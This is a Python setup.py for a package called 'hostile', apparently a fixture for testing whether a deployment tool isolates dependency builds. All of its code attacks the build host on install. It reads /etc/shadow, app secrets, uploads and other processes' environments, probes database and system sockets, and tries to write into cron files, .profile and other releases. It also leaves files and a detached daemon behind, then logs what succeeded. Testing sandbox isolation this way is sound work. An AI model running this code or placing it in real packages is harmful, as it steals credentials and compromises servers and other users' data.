"""A dependency that attacks the server while it is built, and writes down what it got.

It goes beside the code of the tiny app, which names it as a requirement.
"""

import contextlib
import json
import os
import socket
from collections.abc import Iterator
from pathlib import Path

from setuptools import setup

ROOT = Path("/srv/tiny")
HERE = Path(__file__).resolve()


def found(pattern: str) -> Iterator[Path]:
    return Path("/").glob(pattern.lstrip("/"))


got: dict[str, list[str]] = {"read": [], "seen": [], "reached": [], "written": [], "linked": []}

# Secrets of this release and of others, and what the app's users have uploaded.
for path in [
    *found("/srv/*/settings/*/*"),
    *found("/srv/*/serving/*"),
    *found("/srv/*/shared/*/*"),
    *found("/srv/*/logs/*"),
    *found("/run/carafe-*"),
    "/etc/shadow",
]:
    with contextlib.suppress(OSError):
        got["read"].append(f"{path}: {Path(path).read_text()}")

# What other processes of the same user know.
for path in found("/proc/[0-9]*/environ"):
    with contextlib.suppress(OSError):
        if "planted" in (text := path.read_text(errors="replace")):
            got["seen"].append(text)

# The database, as whose owner this user is known; the bus; whatever else listens.
for path in [
    "/run/postgresql/.s.PGSQL.5432",
    "/var/run/postgresql/.s.PGSQL.5432",
    "/run/dbus/system_bus_socket",
    "/run/systemd/private",
    *found("/run/**/*sock*"),
]:
    with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as client:
        client.connect(str(path))
        got["reached"].append(str(path))

# Other releases, other virtual environments, and what root or another build will read.
own = HERE.parents[1].name
others = [x for x in map(str, found(f"{ROOT}/releases/*/wsgi.py")) if own not in x]
for path in [
    *others,
    *found(f"{ROOT}/venvs/*/lib/*/site-packages/flask/app.py"),
    *found(f"{ROOT}/uv/*/bin/uv"),
    *(f"{ROOT}/uv/{x}" for x in ("planted", "0.99.0")),
    *found(f"{ROOT}/settings/*/environment"),
    *(f"{ROOT}/{x}/planted" for x in ("releases", "venvs", "state", "settings", "shared", "bin")),
    f"{ROOT}/shared/data/planted",
    f"{ROOT}/.profile",
    "/etc/cron.d/planted",
    "/var/spool/cron/crontabs/tiny-deploy",
    "/srv/planted",
]:
    with contextlib.suppress(OSError), Path(path).open("a"):
        got["written"].append(str(path))
for number, path in enumerate(others):
    with contextlib.suppress(OSError):
        os.link(path, f"{HERE.parent}/link-{number}")
        got["linked"].append(path)

# What is to outlive the build.
for folder in ("/tmp", "/var/tmp", "/dev/shm"):
    with contextlib.suppress(OSError):
        Path(folder, "hostile").write_bytes(bytes(1_000_000))
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        # As a daemon does; whoever builds would wait for its end.
        nothing = os.open(os.devnull, os.O_RDWR)
        for number in range(3):
            os.dup2(nothing, number)
        os.closerange(3, 100)
        os.execvp("sleep", ["sleep", "73310"])
    os._exit(0)

Path(ROOT, "cache/attacks.json").write_text(json.dumps(got))
setup(name="hostile", version="1", py_modules=[])
